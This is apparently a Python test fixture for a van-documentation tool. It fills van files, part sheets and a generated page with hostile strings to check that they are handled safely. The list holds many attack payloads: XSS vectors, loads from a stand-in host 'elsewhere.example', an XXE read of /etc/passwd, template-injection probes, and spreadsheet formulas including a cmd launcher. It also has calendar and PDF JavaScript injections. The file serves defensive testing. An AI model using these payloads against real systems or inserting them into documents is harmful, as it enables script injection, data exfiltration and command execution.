"""Texts that try to become something else, and a van file, part sheets and a page that are full of them."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from tests.manual.test_text import TRICKS
from vandoc.ground.errors import SystemFileError
from vandoc.reading.loader import load

ELSEWHERE = "elsewhere.example"
STRINGS = [
    *TRICKS,
    # HTML: elements that run, load or lead away
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    f"<iframe src=//{ELSEWHERE}></iframe>",
    f"<object data=//{ELSEWHERE}/x></object>",
    f"<embed src=//{ELSEWHERE}/x>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<link rel=prefetch href=//{ELSEWHERE}/x>",
    f"<meta http-equiv=refresh content='0;//{ELSEWHERE}'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<form action=//{ELSEWHERE}><button autofocus>x",
    f"<img src=//{ELSEWHERE}/x.png>",
    f"<img srcset=//{ELSEWHERE}/x.png>",
    f"<video src=//{ELSEWHERE}/x.mp4 autoplay>",
    f"<audio src=//{ELSEWHERE}/x.mp3 autoplay>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<style>@import '//{ELSEWHERE}/x.css'</style>",
    f"<p style=background:url(//{ELSEWHERE}/x)>x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<button popovertarget=contents onclick=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<scr<script>ipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    # Attributes, URLs, scripts, styles
    "' onmouseover=alert(1) x='",
    '" onmouseover=alert(1) x="',
    "` onmouseover=alert(1) x=`",
    '" style="position:fixed;inset:0" x="',
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    f"//{ELSEWHERE}/x",
    f"https://{ELSEWHERE}/x",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\';alert(1);//",
    "*/alert(1)/*",
    "}</style><script>alert(1)</script>",
    f"url(//{ELSEWHERE}/x)",
    "expression(alert(1))",
    '#" onclick="alert(1)',
    '?r=1-000000"><script>alert(1)</script>',
    # Templates and Markdown
    "{% include '/etc/passwd' %}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "--8<-- '/etc/passwd'",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    f"![x](//{ELSEWHERE}/x.png)",
    f"![x][y]\n\n[y]: //{ELSEWHERE}/x.png",
    "<javascript:alert(1)>",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
    "</li></ol></div></main><script>alert(1)</script>",
    '<div markdown="1">\n<script>alert(1)</script>\n</div>',
    "!!! note\n    <script>alert(1)</script>",
    # Formulas of spreadsheets
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{ELSEWHERE}","x")',
    f'=WEBSERVICE("https://{ELSEWHERE}")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    '",=1+1,"',
    "x\n=1+1",
    # Calendars
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y",
    f"x\nATTACH:https://{ELSEWHERE}/x",
    f'x;ALTREP="https://{ELSEWHERE}":y',
    "BEGIN:VALARM",
    "x\\nEND:VCALENDAR",
    # Drawings, codes, PDF
    '"];x->y [URL="javascript:alert(1)"];"',
    "<<b>x</b>>",
    "\\N\\L\\G",
    "BEGIN:VCARD\nURL:javascript:alert(1)\nEND:VCARD",
    "MECARD:N:x;URL:javascript:alert(1);;",
    "WIFI:S:x;;",
    ") /S /JavaScript /JS (app.alert(1)",
    "<</S/Launch/F(x)>>",
    # Letters
    "\u200b\u200d\u2060x",
    "x\u0300\u0301\u0302\u0303\u0304\u0305",
    "\ufeffx",
    "﷽",
    "🚐\u200d🔥",
    "عربي <b>",
    "x" * 70,
]


def fill(folder: Path, van: str) -> int:
    """Put hostile texts in place of every text of a copied van file and its part sheets; say how many.

    What takes no such text (a reference, a quantity) is found by trying: the file's own reader refuses it.
    """
    van_file = folder / van / "van.yml"
    files = {van_file: yaml.safe_load(van_file.read_text("utf-8"))}
    for sheet in sorted((folder / "parts").glob("*.yml")):
        files[sheet] = yaml.safe_load(sheet.read_text("utf-8"))
    leaves = {(path, trail): 0 for path, tree in files.items() for trail in texts_of(tree)}
    original = {leaf: _get(files[leaf[0]], leaf[1]) for leaf in leaves}
    for _ in range(60):
        for number, ((path, trail), refused) in enumerate(leaves.items()):
            _put(files[path], trail, _candidates(number, original[path, trail])[refused])
        for path, tree in files.items():
            path.write_text(yaml.safe_dump(tree, allow_unicode=True, sort_keys=False), "utf-8")
        try:
            load(van_file, folder)
        except SystemFileError as error:
            told = {leaf for problem in error.problems for leaf in _meant(problem, leaves, folder)}
            if not told:
                raise AssertionError("none of the texts is to blame") from error
            for leaf in told:
                leaves[leaf] += 1
        else:
            last = len(_candidates(0, "")) - 1
            return sum(refused < last for refused in leaves.values())
    raise AssertionError("no file that can be read came out")


def _candidates(number: int, original: str) -> tuple[str, ...]:
    """Many texts at once, one on several lines, one on a line, and what stood there."""
    many = "\n".join(STRINGS[(number * 7 + step) % len(STRINGS)] for step in range(9))
    single = [text for text in STRINGS if not re.search(r"[\x00-\x1f\x7f]", text)]
    return (f"{many} {number}", f"{single[(number * 5) % len(single)]} {number}", original)


def _meant(problem: Any, leaves: dict[Any, int], folder: Path) -> Iterator[Any]:
    """Yield the texts that a problem may be about and that are not as they were yet."""
    path = folder / problem.location.file
    trail = problem.message.partition(": ")[0]
    keys = tuple(int(k) if k.isdecimal() else k for k in re.findall(r"[^.\[\]]+", trail))
    last = len(_candidates(0, "")) - 1
    for leaf, refused in leaves.items():
        own = keys[2:] if leaf[0] == path and path.parent.name == "parts" else keys
        if leaf[0] == path and refused < last and leaf[1][: len(own)] == own[: len(leaf[1])]:
            yield leaf


def texts_of(tree: Any, trail: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the way to each text of a file but references to other files."""
    children = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, child in children:
        if isinstance(child, str) and key not in ("part", "file"):
            yield (*trail, key)
        yield from texts_of(child, (*trail, key))


def _get(tree: Any, trail: tuple[Any, ...]) -> Any:
    for key in trail:
        tree = tree[key]
    return tree


def _put(tree: Any, trail: tuple[Any, ...], value: str) -> None:
    _get(tree, trail[:-1])[trail[-1]] = value


def page() -> str:
    """A page of the workshop with every text where Markdown may take it for something."""
    parts = [
        "---\ntitle: '<script>alert(1)</script>'\nscripts: ['x\"><script>alert(1)</script>']\n---\n\n# Own\n"
    ]
    for number, text in enumerate(STRINGS):
        line = " ".join(text.split())
        link = f"[{line}]({line.replace(' ', '')})"
        parts.append(f"## {line} {number}\n\n{text}\n\n- {line}\n\n{link}\n\n<div>{line}</div>\n")
    return "\n".join(parts)
